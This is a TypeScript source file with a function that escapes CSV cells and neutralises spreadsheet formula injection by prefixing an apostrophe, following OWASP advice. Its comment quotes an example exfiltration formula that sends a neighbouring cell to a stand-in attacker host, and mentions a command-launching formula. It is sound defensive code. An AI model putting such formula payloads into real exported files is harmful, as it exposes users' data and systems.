/**
 * A cell of a CSV file (RFC 4180, separated by commas).
 *
 * Stops the title that a spreadsheet runs (sec-O02): `=HYPERLINK("https://evil.example/?"&A1)` sends the cell
 * beside it away at a click, `=cmd|…` has started programs. Quoting does not help, the spreadsheet takes the
 * quotes off first. What starts like a formula gets an apostrophe in front of it, as OWASP advises.
 *
 * URLs need nothing of it: an http or https URL starts with an `h`. Escape sequences stay, as they do no harm
 * in a file: what is shown on a terminal goes through `terminalText` first.
 */

export interface CsvCellOptions {
  /**
   * Leave out the apostrophe: the text exactly as it is, for programs that read it.
   * @default false
   */
  readonly raw?: boolean;
}

/**
 * What spreadsheets take for the start of a formula, behind blanks and invisible characters too: `=`, `+`,
 * `-`, `@`, a tab or a line break, and their full-width and small forms, which some of them convert. With an
 * apostrophe before it as well: so one that was in the text can be told from ours.
 */
const FORMULA = /^'*[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@\t\r\n＝＋－＠﹦﹢﹣﹫−]/u;

/** Also the separators of other dialects, and blanks at the ends, which some readers take off. */
const QUOTED = /[",\r\n;\t]|^\s|\s$/;

/**
 * The cell, quoted where it must be; empty for what is absent. Numbers are no text and start no formula.
 * To read it back, take one apostrophe off what looks like `'=…`.
 *
 * @example
 * csvCell("=1+1"); // "'=1+1"
 * csvCell('He said "a, b"'); // '"He said ""a, b"""'
 */
export function csvCell(
  value: string | number | bigint | boolean | null | undefined,
  { raw = false }: CsvCellOptions = {},
): string {
  if (value === null || value === undefined) return "";
  if (typeof value !== "string") return String(value);
  const text = !raw && FORMULA.test(value) ? `'${value}` : value;
  return QUOTED.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
